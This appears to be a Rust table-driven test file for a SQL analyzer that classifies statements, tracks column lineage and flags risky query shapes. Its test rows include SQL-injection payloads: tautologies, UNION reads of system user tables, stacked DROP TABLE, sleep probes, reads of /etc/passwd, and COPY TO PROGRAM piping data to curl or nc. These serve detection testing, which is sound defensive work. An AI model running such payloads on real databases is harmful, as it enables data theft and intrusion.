//! Table-driven tests of the whole analysis: one row per SQL text and what it must yield,
//! against the demo platform's schema (DEMO.md) in both dialects.

use super::*;

const PG: Dialect = Dialect::Postgres;
const MY: Dialect = Dialect::MySql;

fn demo_schema() -> MapSchema {
    let tables: &[(&str, &[&str])] = &[
        (
            "population",
            &[
                "id",
                "name",
                "id_card",
                "phone",
                "address",
                "birth_date",
                "gender",
                "district_code",
            ],
        ),
        (
            "legal_person",
            &[
                "uscc",
                "name",
                "legal_rep_name",
                "legal_rep_id_card",
                "registered_capital",
                "address",
            ],
        ),
        (
            "credit_record",
            &["id", "uscc", "record_type", "detail", "record_date"],
        ),
        (
            "license",
            &[
                "id",
                "holder_id_card",
                "license_type",
                "license_no",
                "issue_date",
            ],
        ),
        ("bank_account", &["id", "holder_id_card", "card_no", "bank"]),
        ("open_dataset", &["id", "title", "body"]),
    ];
    let mut schema = MapSchema::new();
    for db in ["public", "publicdata"] {
        for (table, columns) in tables {
            schema.insert(ObjectName::new(Some(db), table), columns);
        }
    }
    // A quoted mixed-case table that is another table in PostgreSQL.
    schema.insert(ObjectName::new(Some("public"), "Population"), &["secret"]);
    schema
}

fn context(dialect: Dialect) -> Context<'static> {
    match dialect {
        Dialect::Postgres => Context::postgres(Some("public")),
        Dialect::MySql => Context::mysql(Some("publicdata")),
    }
}

fn run(dialect: Dialect, sql: &str) -> Analysis {
    analyze(sql, &context(dialect), &demo_schema())
}

fn first(dialect: Dialect, sql: &str) -> StatementAnalysis {
    let a = run(dialect, sql);
    assert!(!a.statements.is_empty(), "no statement in {sql}");
    a.statements[0].clone()
}

/// `schema.table` without the default schema of the dialect, for short expectations.
fn short(name: &ObjectName, dialect: Dialect) -> String {
    let default = match dialect {
        Dialect::Postgres => "public",
        Dialect::MySql => "publicdata",
    };
    match name.schema.as_deref() {
        Some(s) if s == default => name.name.clone(),
        _ => name.to_string(),
    }
}

fn short_col(c: &ColumnRef, dialect: Dialect) -> String {
    match &c.table {
        Some(t) => format!("{}.{}", short(t, dialect), c.name),
        None if c.candidates.is_empty() => format!("?.{}", c.name),
        None => format!(
            "{{{}}}.{}",
            c.candidates
                .iter()
                .map(|t| short(t, dialect))
                .collect::<Vec<_>>()
                .join("|"),
            c.name
        ),
    }
}

fn derivation(d: Derivation) -> &'static str {
    match d {
        Derivation::Constant => "const",
        Derivation::Aggregate { reveals: false } => "count",
        Derivation::Aggregate { reveals: true } => "agg",
        Derivation::Plain => "plain",
        Derivation::Transformed => "derived",
    }
}

fn objects(st: &StatementAnalysis, dialect: Dialect) -> Vec<String> {
    st.objects
        .iter()
        .map(|o| {
            let mut access = String::new();
            if o.access.read {
                access.push('r');
            }
            if o.access.write {
                access.push('w');
            }
            if o.access.define {
                access.push('d');
            }
            format!("{}:{access}", short(&o.name, dialect))
        })
        .collect()
}

/// Outputs as `name=derivation<-source:derivation,…`.
fn outputs(st: &StatementAnalysis, dialect: Dialect) -> Vec<String> {
    st.outputs
        .iter()
        .map(|o| {
            let sources: Vec<String> = o
                .sources
                .iter()
                .map(|s| {
                    format!(
                        "{}:{}",
                        short_col(&s.column, dialect),
                        derivation(s.derivation)
                    )
                })
                .collect();
            format!(
                "{}={}<-{}",
                o.name,
                derivation(o.derivation),
                sources.join(",")
            )
        })
        .collect()
}

fn predicates(st: &StatementAnalysis, dialect: Dialect) -> Vec<String> {
    st.predicates
        .iter()
        .map(|p| {
            let kind = match p.kind {
                PredicateKind::Equality => "eq",
                PredicateKind::Pattern => "pattern",
                PredicateKind::Range => "range",
                PredicateKind::Transformed => "transformed",
                PredicateKind::Other => "other",
            };
            format!("{}:{kind}", short_col(&p.column, dialect))
        })
        .collect()
}

#[test]
fn kinds_and_commands() {
    use Command as C;
    use StatementKind as K;
    // (dialect, sql, kind, command, parsed by the parser)
    #[rustfmt::skip]
    let cases: &[(Dialect, &str, K, C, bool)] = &[
        (PG, "SELECT name, phone FROM population WHERE id_card = $1", K::Read, C::Select, true),
        (MY, "SELECT name FROM population WHERE id_card = ?", K::Read, C::Select, true),
        (PG, "VALUES (1, 2)", K::Read, C::Select, true),
        // sqlparser 0.63 does not read PostgreSQL's `TABLE name`: the fallback does.
        (PG, "TABLE population", K::Read, C::Select, false),
        (PG, "EXPLAIN SELECT * FROM population", K::Read, C::Explain, true),
        (PG, "EXPLAIN ANALYZE DELETE FROM population", K::Write, C::Delete, true),
        (MY, "DESCRIBE population", K::Read, C::Describe, true),
        (MY, "SHOW TABLES", K::Read, C::Show, true),
        (MY, "SHOW VARIABLES LIKE 'version'", K::Session, C::Show, true),
        (PG, "SHOW search_path", K::Session, C::Show, true),
        (PG, "INSERT INTO population (id, name) VALUES (1, 'a')", K::Write, C::Insert, true),
        (MY, "REPLACE INTO population (id) VALUES (1)", K::Write, C::Replace, true),
        (PG, "UPDATE population SET phone = '1' WHERE id = 1", K::Write, C::Update, true),
        (PG, "DELETE FROM population WHERE id = 1", K::Write, C::Delete, true),
        (PG, "MERGE INTO license l USING population p ON l.holder_id_card = p.id_card WHEN MATCHED THEN UPDATE SET license_type = 'x'", K::Write, C::Merge, true),
        (PG, "TRUNCATE population", K::Write, C::Truncate, true),
        (MY, "TRUNCATE TABLE population", K::Write, C::Truncate, true),
        (PG, "WITH d AS (DELETE FROM population RETURNING *) SELECT count(*) FROM d", K::Write, C::Select, true),
        (PG, "COPY population TO STDOUT", K::Export, C::Copy, true),
        (PG, "COPY population TO '/tmp/p.csv'", K::Export, C::Copy, true),
        (PG, "COPY (SELECT id_card FROM population) TO PROGRAM 'curl -d @- x'", K::Export, C::Copy, true),
        (PG, "COPY population FROM STDIN", K::Write, C::Copy, true),
        (PG, "COPY population FROM PROGRAM 'id'", K::Write, C::Copy, true),
        (MY, "SELECT * FROM population INTO OUTFILE '/tmp/p'", K::Export, C::Select, false),
        (MY, "SELECT name INTO DUMPFILE '/tmp/p' FROM population", K::Export, C::Select, false),
        (MY, "LOAD DATA INFILE '/tmp/p' INTO TABLE population", K::Write, C::LoadData, false),
        (MY, "LOAD DATA LOCAL INFILE '/tmp/p' INTO TABLE population", K::Write, C::LoadData, false),
        (PG, "CREATE TABLE t (id int)", K::Ddl, C::Create, true),
        (PG, "CREATE TABLE t AS SELECT id_card FROM population", K::Ddl, C::Create, true),
        (PG, "SELECT * INTO t FROM population", K::Ddl, C::Create, true),
        (PG, "ALTER TABLE population ADD COLUMN x int", K::Ddl, C::Alter, true),
        (MY, "DROP TABLE population", K::Ddl, C::Drop, true),
        (PG, "CREATE INDEX i ON population (id_card)", K::Ddl, C::Create, true),
        (PG, "CREATE VIEW v AS SELECT name FROM population", K::Ddl, C::Create, true),
        (PG, "COMMENT ON TABLE population IS 'x'", K::Ddl, C::Comment, true),
        (PG, "GRANT SELECT ON population TO bob", K::Admin, C::Grant, true),
        (MY, "GRANT SELECT ON publicdata.population TO 'bob'@'%'", K::Admin, C::Grant, true),
        (PG, "REVOKE SELECT ON population FROM bob", K::Admin, C::Revoke, true),
        (PG, "CREATE USER bob WITH PASSWORD 'x'", K::Admin, C::Account, false),
        (MY, "CREATE USER 'bob'@'%' IDENTIFIED BY 'x'", K::Admin, C::Account, false),
        (PG, "CREATE ROLE bob", K::Admin, C::Account, true),
        (PG, "SET ROLE dba_admin", K::Admin, C::SetRole, true),
        (PG, "SET search_path = public", K::Session, C::Set, true),
        (MY, "SET NAMES utf8mb4", K::Session, C::Set, true),
        (MY, "SET autocommit = 1", K::Session, C::Set, true),
        (MY, "SET GLOBAL general_log = 0", K::Admin, C::Set, true),
        (MY, "USE publicdata", K::Session, C::Use, true),
        (PG, "BEGIN", K::Session, C::Transaction, true),
        (MY, "START TRANSACTION", K::Session, C::Transaction, true),
        (PG, "COMMIT", K::Session, C::Transaction, true),
        (MY, "KILL 12", K::Admin, C::Kill, true),
        (PG, "VACUUM population", K::Admin, C::Maintenance, true),
        (PG, "PREPARE s AS DELETE FROM population WHERE id = $1", K::Write, C::Prepare, true),
        (PG, "EXECUTE s(1)", K::Session, C::Execute, true),
        (MY, "PREPARE s FROM 'DELETE FROM population'", K::Write, C::Prepare, false),
        (PG, "DO $$ BEGIN PERFORM pg_sleep(1); END $$", K::Admin, C::Do, false),
        (PG, "LISTEN jobs", K::Session, C::Session, true),
        (PG, "LOCK TABLE population", K::Write, C::Lock, true),
        (MY, "CALL refresh(1)", K::Write, C::Call, true),
        (PG, "ALTER SYSTEM SET fsync = off", K::Admin, C::Alter, false),
        (PG, "frobnicate the database", K::Unparsed, C::Other, false),
    ];
    for (dialect, sql, kind, command, parsed) in cases {
        let a = run(*dialect, sql);
        assert_eq!(a.statements.len(), 1, "{sql}: {a:#?}");
        let st = &a.statements[0];
        assert_eq!((st.kind, st.command), (*kind, *command), "{sql}");
        assert_eq!(a.is_parsed(), *parsed, "{sql}: {:?}", a.parse);
    }
}

#[test]
fn transfers() {
    use Endpoint::{Client, Program, ServerFile};
    // (dialect, sql, export, import, flags)
    type Row<'a> = (
        Dialect,
        &'a str,
        Option<Endpoint>,
        Option<Endpoint>,
        &'a [Flag],
    );
    #[rustfmt::skip]
    let cases: &[Row] = &[
        (PG, "COPY population TO STDOUT", Some(Client), None, &[]),
        (PG, "COPY population TO '/tmp/x'", Some(ServerFile), None, &[Flag::FileAccess]),
        (PG, "COPY population TO PROGRAM 'gzip > /tmp/x'", Some(Program), None, &[Flag::Program]),
        (PG, "COPY population FROM STDIN", None, Some(Client), &[]),
        (PG, "COPY population FROM '/tmp/x'", None, Some(ServerFile), &[Flag::FileAccess]),
        (PG, "COPY population FROM PROGRAM 'id'", None, Some(Program), &[Flag::Program]),
        (MY, "SELECT * FROM population INTO OUTFILE '/tmp/x'", Some(ServerFile), None, &[Flag::IntoOutfile, Flag::FileAccess]),
        (MY, "LOAD DATA INFILE '/etc/passwd' INTO TABLE population", None, Some(ServerFile), &[Flag::FileAccess]),
        (MY, "LOAD DATA LOCAL INFILE 'x.csv' INTO TABLE population", None, Some(Client), &[]),
    ];
    for (dialect, sql, export, import, flags) in cases {
        let st = first(*dialect, sql);
        assert_eq!((st.export, st.import), (*export, *import), "{sql}");
        for flag in *flags {
            assert!(
                st.flags.contains(*flag),
                "{sql}: {flag:?} not in {:?}",
                st.flags
            );
        }
    }
    // COPY TO returns the table's columns to the client: they are outputs.
    let st = first(PG, "COPY population (name, id_card) TO STDOUT");
    assert_eq!(
        outputs(&st, PG),
        [
            "name=plain<-population.name:plain",
            "id_card=plain<-population.id_card:plain"
        ]
    );
    let st = first(PG, "COPY population TO STDOUT");
    assert_eq!(st.outputs.len(), 8);
}

#[test]
fn object_resolution() {
    // (dialect, sql, objects as `name:access`, default schema elided)
    #[rustfmt::skip]
    let cases: &[(Dialect, &str, &[&str])] = &[
        (PG, "SELECT name FROM population", &["population:r"]),
        (PG, "SELECT name FROM public.population", &["population:r"]),
        (PG, "SELECT name FROM publicdata.public.population", &["population:r"]),
        (PG, "SELECT name FROM PUBLIC.Population", &["population:r"]),
        (PG, "SELECT name FROM \"population\"", &["population:r"]),
        (PG, "SELECT * FROM \"Population\"", &["Population:r"]),
        (PG, "SELECT name FROM publicdata.population", &["publicdata.population:r"]),
        (MY, "SELECT name FROM publicdata.population", &["population:r"]),
        (MY, "SELECT name FROM `PublicData`.`Population`", &["population:r"]),
        (MY, "SELECT name FROM `population` p", &["population:r"]),
        (PG, "SELECT p.name, c.detail FROM population p JOIN legal_person l ON l.legal_rep_id_card = p.id_card LEFT JOIN credit_record c ON c.uscc = l.uscc", &["population:r", "legal_person:r", "credit_record:r"]),
        // A CTE named like a real table shadows it: no object.
        (PG, "WITH population AS (SELECT 1 AS id) SELECT id FROM population", &[]),
        // …except inside its own (non-recursive) definition.
        (PG, "WITH population AS (SELECT id FROM population) SELECT id FROM population", &["population:r"]),
        (PG, "SELECT x FROM (SELECT id_card AS x FROM population) t", &["population:r"]),
        (PG, "SELECT name FROM population WHERE id IN (SELECT id FROM license WHERE license_type = 'a')", &["population:r", "license:r"]),
        (PG, "SELECT * FROM pg_catalog.pg_user", &["pg_catalog.pg_user:r"]),
        (PG, "SELECT * FROM pg_shadow", &["pg_catalog.pg_shadow:r"]),
        (PG, "SELECT * FROM information_schema.tables", &["information_schema.tables:r"]),
        (MY, "SELECT * FROM mysql.user", &["mysql.user:r"]),
        (MY, "SELECT * FROM performance_schema.threads", &["performance_schema.threads:r"]),
        (PG, "INSERT INTO license (id, holder_id_card) SELECT id, id_card FROM population", &["license:w", "population:r"]),
        (PG, "UPDATE population SET name = 'x' WHERE id = 1", &["population:w"]),
        (PG, "UPDATE population SET name = l.legal_rep_name FROM legal_person l WHERE l.legal_rep_id_card = population.id_card", &["population:w", "legal_person:r"]),
        (MY, "UPDATE population p JOIN license l ON p.id_card = l.holder_id_card SET p.name = l.license_no", &["population:w", "license:r"]),
        (PG, "DELETE FROM population WHERE id = 1 RETURNING id_card", &["population:rw"]),
        (MY, "DELETE p FROM population p JOIN license l ON p.id_card = l.holder_id_card", &["population:w", "license:r"]),
        (PG, "TRUNCATE population, license", &["population:w", "license:w"]),
        (PG, "DROP TABLE population", &["population:d"]),
        (PG, "GRANT SELECT ON population TO bob", &["population:d"]),
        (PG, "EXPLAIN DELETE FROM population", &["population:r"]),
        (PG, "SELECT * FROM generate_series(1, 10) g", &[]),
        (MY, "SELECT 1 FROM dual", &[]),
        (MY, "SELECT * FROM population INTO OUTFILE '/tmp/x'", &["population:r"]),
        (MY, "SELECT a.name FROM population a, legal_person AS b, credit_record c INTO OUTFILE '/x'", &["population:r", "legal_person:r", "credit_record:r"]),
        (PG, "SEL/**/ECT name FROM population JOIN pg_user ON true", &["population:r", "pg_catalog.pg_user:r"]),
    ];
    for (dialect, sql, want) in cases {
        let st = first(*dialect, sql);
        assert_eq!(objects(&st, *dialect), *want, "{sql}");
    }
}

#[test]
fn column_resolution() {
    // (dialect, sql, columns referenced; `?.x` unresolved, `{a|b}.x` candidates)
    #[rustfmt::skip]
    let cases: &[(Dialect, &str, &[&str])] = &[
        (PG, "SELECT name, phone FROM population WHERE id_card = $1", &["population.name", "population.phone", "population.id_card"]),
        (PG, "SELECT p.name FROM population p JOIN license l ON l.holder_id_card = p.id_card ORDER BY issue_date", &["license.holder_id_card", "population.id_card", "population.name", "license.issue_date"]),
        // Unqualified and in both tables: the schema cannot tell, both candidates stay.
        (PG, "SELECT id FROM population, license", &["{population|license}.id"]),
        (PG, "SELECT name FROM population p GROUP BY name HAVING count(*) > 1", &["population.name"]),
        // Without a schema: one table in scope decides.
        (PG, "SELECT secret FROM \"Population\"", &["Population.secret"]),
        // Not in the catalog: unresolved, with the tables in scope as candidates.
        (PG, "SELECT \"ID_CARD\" FROM population", &["{population}.ID_CARD"]),
        (MY, "SELECT `ID_CARD` FROM population", &["population.id_card"]),
        (PG, "SELECT x FROM (SELECT id_card AS x FROM population) t WHERE x = '1'", &["population.id_card"]),
        (MY, "SELECT @@version, @x", &[]),
        (PG, "SELECT nope FROM population", &["{population}.nope"]),
        (PG, "SELECT nope", &["?.nope"]),
    ];
    let schema = demo_schema();
    for (dialect, sql, want) in cases {
        let st = &analyze(sql, &context(*dialect), &schema).statements[0];
        let got: Vec<String> = st
            .columns
            .iter()
            .map(|c| short_col(&c.column, *dialect))
            .collect();
        assert_eq!(got, *want, "{sql}");
    }
    // The clauses a column appears in.
    let st = first(
        PG,
        "SELECT name FROM population WHERE name LIKE 'a%' ORDER BY name",
    );
    let clauses: Vec<Clause> = st.columns[0].clauses.iter().collect();
    assert_eq!(clauses, [Clause::Select, Clause::Where, Clause::OrderBy]);
    // Columns written.
    let st = first(PG, "UPDATE population SET phone = $1 WHERE id = $2");
    assert!(
        st.columns
            .iter()
            .any(|c| c.column.name == "phone" && c.clauses.contains(Clause::Target))
    );
}

#[test]
fn unresolved_without_schema() {
    let cx = Context::postgres(Some("public"));
    let a = analyze(
        "SELECT id FROM population, license WHERE population.id_card = '1'",
        &cx,
        &NoSchema,
    );
    let st = &a.statements[0];
    let first = &st.columns[0].column;
    assert_eq!(first.table, None);
    assert_eq!(first.name, "id");
    assert_eq!(first.candidates.len(), 2);
    assert!(first.may_belong_to(&ObjectName::new(Some("public"), "license")));
    // `*` without a schema: every column of the table, as one wildcard source.
    let a = analyze("SELECT * FROM population", &cx, &NoSchema);
    assert_eq!(
        outputs(&a.statements[0], PG),
        ["*=plain<-population.*:plain"]
    );
    assert!(a.statements[0].outputs[0].sources[0].column.is_all());
}

#[test]
fn lineage() {
    // (dialect, sql, outputs as `name=derivation<-sources`)
    #[rustfmt::skip]
    let cases: &[(Dialect, &str, &[&str])] = &[
        (PG, "SELECT name, phone AS p FROM population", &["name=plain<-population.name:plain", "p=plain<-population.phone:plain"]),
        (MY, "SELECT concat(name) FROM population", &["concat=derived<-population.name:derived"]),
        (PG, "SELECT concat(id_card) AS c FROM population", &["c=derived<-population.id_card:derived"]),
        (PG, "SELECT name || '' FROM population", &["?column?=derived<-population.name:derived"]),
        (PG, "SELECT CAST(id_card AS text) FROM population", &["id_card=plain<-population.id_card:plain"]),
        (PG, "SELECT id_card::text FROM population", &["id_card=plain<-population.id_card:plain"]),
        (PG, "SELECT id_card::varchar(30) FROM population", &["id_card=plain<-population.id_card:plain"]),
        (PG, "SELECT encode(id_card::bytea, 'hex') FROM population", &["encode=derived<-population.id_card:derived"]),
        (PG, "SELECT upper(name) FROM population", &["upper=derived<-population.name:derived"]),
        (PG, "SELECT substr(id_card, 1, 6) FROM population", &["substr=derived<-population.id_card:derived"]),
        (PG, "SELECT CASE WHEN gender = 'F' THEN phone END FROM population", &["case=derived<-population.phone:plain,population.gender:derived"]),
        (PG, "SELECT coalesce(phone, 'none') FROM population", &["coalesce=plain<-population.phone:plain"]),
        (PG, "SELECT (SELECT id_card FROM population LIMIT 1) AS x", &["x=plain<-population.id_card:plain"]),
        (PG, "SELECT name, (SELECT max(detail) FROM credit_record c WHERE c.uscc = l.uscc) FROM legal_person l", &["name=plain<-legal_person.name:plain", "max=agg<-credit_record.detail:agg"]),
        // Output i of a UNION comes from column i of every branch: the second leaks id_card.
        (PG, "SELECT name FROM legal_person UNION SELECT id_card FROM population", &["name=plain<-legal_person.name:plain,population.id_card:plain"]),
        (PG, "SELECT name, 1 FROM legal_person UNION ALL SELECT 'x', upper(id_card) FROM population UNION SELECT name, phone FROM population", &["name=plain<-legal_person.name:plain,population.name:plain", "?column?=derived<-population.id_card:derived,population.phone:plain"]),
        (PG, "SELECT x FROM (SELECT id_card AS x FROM population) t", &["x=plain<-population.id_card:plain"]),
        (PG, "SELECT t.y FROM (SELECT lower(name) AS y FROM population) AS t", &["y=derived<-population.name:derived"]),
        (PG, "WITH c AS (SELECT id_card, name FROM population) SELECT id_card FROM c", &["id_card=plain<-population.id_card:plain"]),
        (PG, "WITH c(a, b) AS (SELECT id_card, name FROM population) SELECT b, upper(a) FROM c", &["b=plain<-population.name:plain", "upper=derived<-population.id_card:derived"]),
        (PG, "WITH RECURSIVE r(n, v) AS (SELECT 1, name FROM population UNION ALL SELECT n + 1, v FROM r WHERE n < 3) SELECT v FROM r", &["v=plain<-population.name:plain"]),
        (PG, "SELECT * FROM bank_account", &["id=plain<-bank_account.id:plain", "holder_id_card=plain<-bank_account.holder_id_card:plain", "card_no=plain<-bank_account.card_no:plain", "bank=plain<-bank_account.bank:plain"]),
        (PG, "SELECT b.*, p.name FROM bank_account b JOIN population p ON p.id_card = b.holder_id_card", &["id=plain<-bank_account.id:plain", "holder_id_card=plain<-bank_account.holder_id_card:plain", "card_no=plain<-bank_account.card_no:plain", "bank=plain<-bank_account.bank:plain", "name=plain<-population.name:plain"]),
        (PG, "SELECT * FROM (SELECT name, upper(phone) AS ph FROM population) s", &["name=plain<-population.name:plain", "ph=derived<-population.phone:derived"]),
        (PG, "SELECT count(id_card), count(DISTINCT phone), count(*) FROM population", &["count=count<-population.id_card:count", "count=count<-population.phone:count", "count=const<-"]),
        (PG, "SELECT max(id_card), string_agg(name, ',') FROM population", &["max=agg<-population.id_card:agg", "string_agg=agg<-population.name:agg"]),
        (MY, "SELECT group_concat(phone) FROM population", &["group_concat=agg<-population.phone:agg"]),
        (PG, "SELECT district_code, count(*) FROM population GROUP BY district_code", &["district_code=plain<-population.district_code:plain", "count=const<-"]),
        // PostgreSQL whole-row references carry every column.
        (PG, "SELECT row_to_json(p) FROM bank_account p", &["row_to_json=derived<-bank_account.id:derived,bank_account.holder_id_card:derived,bank_account.card_no:derived,bank_account.bank:derived"]),
        (PG, "SELECT name FROM population WHERE id_card = $1 UNION SELECT id_card FROM license l JOIN population p ON p.id = l.id", &["name=plain<-population.name:plain,population.id_card:plain"]),
        (MY, "SELECT IF(gender = 'F', phone, NULL) FROM population", &["if=derived<-population.gender:derived,population.phone:plain"]),
        (PG, "INSERT INTO license (id) VALUES (1) RETURNING holder_id_card", &["holder_id_card=plain<-license.holder_id_card:plain"]),
    ];
    for (dialect, sql, want) in cases {
        let st = first(*dialect, sql);
        assert_eq!(outputs(&st, *dialect), *want, "{sql}");
    }
}

#[test]
fn predicate_kinds() {
    // (dialect, sql, predicates as `column:kind`)
    #[rustfmt::skip]
    let cases: &[(Dialect, &str, &[&str])] = &[
        (PG, "SELECT name FROM population WHERE id_card = '330102199001011234'", &["population.id_card:eq"]),
        (PG, "SELECT name FROM population WHERE id_card = $1", &["population.id_card:eq"]),
        (PG, "SELECT name FROM population WHERE $1 = id_card", &["population.id_card:eq"]),
        (PG, "SELECT name FROM population WHERE id_card IN ('1', '2')", &["population.id_card:eq"]),
        (PG, "SELECT name FROM population WHERE id = ANY($1)", &["population.id:eq"]),
        (PG, "SELECT name FROM population WHERE id_card LIKE '3301%'", &["population.id_card:pattern"]),
        (PG, "SELECT name FROM population WHERE id_card ILIKE '3301%'", &["population.id_card:pattern"]),
        (PG, "SELECT name FROM population WHERE id_card SIMILAR TO '33%'", &["population.id_card:pattern"]),
        (PG, "SELECT name FROM population WHERE id_card ~ '^33'", &["population.id_card:pattern"]),
        (MY, "SELECT name FROM population WHERE id_card REGEXP '^33'", &["population.id_card:pattern"]),
        (MY, "SELECT name FROM population WHERE id_card RLIKE '^33'", &["population.id_card:pattern"]),
        (PG, "SELECT name FROM population WHERE id_card BETWEEN '330100' AND '330199'", &["population.id_card:range"]),
        (PG, "SELECT name FROM population WHERE id_card > '33'", &["population.id_card:range"]),
        (PG, "SELECT name FROM population WHERE substr(id_card, 1, 6) = '330102'", &["population.id_card:transformed"]),
        (PG, "SELECT name FROM population WHERE '330102' = left(id_card, 6)", &["population.id_card:transformed"]),
        (PG, "SELECT name FROM population WHERE lower(name) LIKE 'z%'", &["population.name:transformed"]),
        (PG, "SELECT name FROM population WHERE id_card::text = $1", &["population.id_card:eq"]),
        (PG, "SELECT name FROM population WHERE id_card <> '1'", &["population.id_card:other"]),
        (PG, "SELECT name FROM population WHERE phone IS NULL", &["population.phone:other"]),
        (PG, "SELECT p.name FROM population p JOIN license l ON l.holder_id_card = p.id_card", &["license.holder_id_card:other", "population.id_card:other"]),
        (PG, "SELECT name FROM population WHERE id IN (SELECT id FROM license WHERE license_no LIKE 'A%')", &["population.id:other", "license.license_no:pattern"]),
        (PG, "SELECT x FROM (SELECT upper(id_card) AS x FROM population) t WHERE x = '1'", &["population.id_card:transformed"]),
        (PG, "SELECT x FROM (SELECT id_card AS x FROM population) t WHERE x LIKE '33%'", &["population.id_card:pattern"]),
        (PG, "SELECT district_code FROM population GROUP BY district_code HAVING count(*) > 100", &[]),
        (PG, "SELECT name FROM population WHERE gender = 'F' AND (id_card LIKE '33%' OR phone = $1)", &["population.gender:eq", "population.id_card:pattern", "population.phone:eq"]),
        (MY, "UPDATE population SET name = 'x' WHERE id_card = ?", &["population.id_card:eq"]),
        (PG, "DELETE FROM population WHERE birth_date < '1950-01-01'", &["population.birth_date:range"]),
        (PG, "SELECT count(*) FILTER (WHERE id_card LIKE '33%') FROM population", &["population.id_card:pattern"]),
        (PG, "SELECT name FROM population WHERE regexp_like(id_card, '^33')", &["population.id_card:pattern"]),
    ];
    for (dialect, sql, want) in cases {
        let st = first(*dialect, sql);
        assert_eq!(predicates(&st, *dialect), *want, "{sql}");
    }
}

#[test]
fn shape_flags() {
    use Flag as F;
    // (dialect, sql, flags that must be set, flags that must not)
    #[rustfmt::skip]
    let cases: &[(Dialect, &str, &[F], &[F])] = &[
        (PG, "SELECT name, phone FROM population WHERE id_card = $1", &[F::NoLimit], &[F::NoWhere, F::SelectStar, F::Tautology, F::Union, F::Stacked]),
        (PG, "SELECT * FROM population", &[F::NoWhere, F::SelectStar, F::NoLimit], &[]),
        (PG, "SELECT name FROM population LIMIT 10", &[F::NoWhere], &[F::NoLimit]),
        (PG, "SELECT 1", &[], &[F::NoWhere, F::NoLimit]),
        (PG, "SELECT p.* FROM population p WHERE id = 1", &[F::SelectStar], &[F::NoWhere]),
        (PG, "SELECT name FROM population p WHERE EXISTS (SELECT * FROM license l WHERE l.id = p.id)", &[], &[F::SelectStar]),
        (PG, "UPDATE population SET name = 'x'", &[F::NoWhere], &[]),
        (PG, "DELETE FROM population", &[F::NoWhere], &[]),
        (PG, "DELETE FROM population WHERE id = 1", &[], &[F::NoWhere]),
        (PG, "TRUNCATE population", &[F::NoWhere], &[]),
        // Tautologies.
        (PG, "SELECT name FROM population WHERE id_card = '' OR 1=1", &[F::Tautology], &[]),
        (PG, "SELECT name FROM population WHERE id_card = '' OR 2>1", &[F::Tautology], &[]),
        (PG, "SELECT name FROM population WHERE id_card = '' OR 'a'='a'", &[F::Tautology], &[]),
        (PG, "SELECT name FROM population WHERE id_card = '' OR true", &[F::Tautology], &[]),
        (MY, "SELECT name FROM population WHERE id_card = '' OR 1", &[F::Tautology], &[]),
        (MY, "SELECT name FROM population WHERE id_card = '' OR 'a'='A'", &[F::Tautology], &[]),
        (MY, "SELECT name FROM population WHERE id_card = '' || 1=1", &[F::Tautology], &[]),
        (PG, "SELECT name FROM population WHERE id = 1 OR 3-1=2", &[F::Tautology], &[]),
        (PG, "SELECT name FROM population WHERE id = 1 OR name = name", &[F::Tautology], &[]),
        (PG, "SELECT name FROM population WHERE 1=1", &[F::Tautology], &[]),
        (PG, "SELECT name FROM population WHERE 1=1 AND id = 5", &[], &[F::Tautology]),
        (PG, "SELECT name FROM population WHERE id = 1 OR 1=2", &[], &[F::Tautology]),
        (PG, "SELECT name FROM population p JOIN license l ON p.id = l.id OR 1=1", &[F::Tautology], &[]),
        // UNION, against the catalog.
        (PG, "SELECT name FROM population UNION SELECT name FROM legal_person", &[F::Union], &[F::UnionSystemCatalog]),
        (PG, "SELECT name FROM population WHERE id = 1 UNION SELECT usename FROM pg_user", &[F::Union, F::UnionSystemCatalog, F::SystemCatalog], &[]),
        (MY, "SELECT name FROM population WHERE id = 1 UNION SELECT table_name FROM information_schema.tables", &[F::Union, F::UnionSystemCatalog], &[]),
        (PG, "SELECT * FROM pg_catalog.pg_tables", &[F::SystemCatalog], &[F::Union]),
        (MY, "SHOW TABLES", &[F::SystemCatalog], &[]),
        // Stacked statements.
        (PG, "SELECT 1; DROP TABLE population", &[F::Stacked], &[]),
        (PG, "SELECT 1;", &[], &[F::Stacked]),
        // Time delays and files.
        (PG, "SELECT pg_sleep(5)", &[F::TimeDelay], &[]),
        (PG, "SELECT * FROM pg_sleep(5)", &[F::TimeDelay], &[]),
        (PG, "SELECT name FROM population WHERE id = 1 AND pg_catalog.pg_sleep_for('5s') IS NULL", &[F::TimeDelay], &[]),
        (MY, "SELECT SLEEP(5)", &[F::TimeDelay], &[]),
        (MY, "SELECT name FROM population WHERE id = 1 AND BENCHMARK(1000000, MD5('a'))", &[F::TimeDelay], &[]),
        (MY, "WAITFOR DELAY '0:0:5'", &[F::TimeDelay], &[]),
        (PG, "SELECT pg_read_file('/etc/passwd')", &[F::FileAccess], &[]),
        (PG, "SELECT pg_read_binary_file('/etc/passwd')", &[F::FileAccess], &[]),
        (PG, "SELECT * FROM pg_ls_dir('.')", &[F::FileAccess], &[]),
        (PG, "SELECT lo_import('/etc/passwd')", &[F::FileAccess], &[]),
        (PG, "SELECT lo_export(1, '/tmp/x')", &[F::FileAccess], &[]),
        (MY, "SELECT LOAD_FILE('/etc/passwd')", &[F::FileAccess], &[]),
        (MY, "SELECT name FROM population INTO OUTFILE '/tmp/x'", &[F::IntoOutfile, F::FileAccess], &[]),
        (MY, "SELECT name FROM population INTO DUMPFILE '/tmp/x'", &[F::IntoOutfile], &[]),
        (PG, "COPY population TO PROGRAM 'nc x 1'", &[F::Program], &[]),
        (PG, "COPY population FROM PROGRAM 'id'", &[F::Program], &[]),
        (PG, "DO $$ BEGIN PERFORM pg_sleep(10); END $$", &[F::TimeDelay], &[]),
        (MY, "PREPARE s FROM 'SELECT SLEEP(5)'", &[F::TimeDelay], &[]),
        (MY, "PREPARE s FROM @q", &[F::DynamicSql], &[]),
        // Comments.
        (PG, "/* portal */ SELECT 1", &[F::Comment], &[F::CommentEvasion]),
        (PG, "SEL/**/ECT name FROM population", &[F::Comment, F::CommentEvasion], &[]),
        (PG, "SELECT/**/name/**/FROM/**/population", &[F::CommentEvasion], &[]),
        (MY, "SELECT name FROM population WHERE id = 1 UNION/**/SELECT user FROM mysql.user", &[F::CommentEvasion, F::Union, F::UnionSystemCatalog], &[]),
        (MY, "/*!50000UNION*/ SELECT 1", &[F::ExecutableComment], &[]),
        (MY, "SELECT name FROM population WHERE id = 1 /*!50000UNION*/ SELECT authentication_string FROM mysql.user", &[F::ExecutableComment, F::Union, F::UnionSystemCatalog], &[]),
        (MY, "SELECT name FROM population WHERE id = 1 /*!UNION SELECT 1*/", &[F::ExecutableComment, F::Union], &[]),
        // In PostgreSQL, `/*! */` is an ordinary comment.
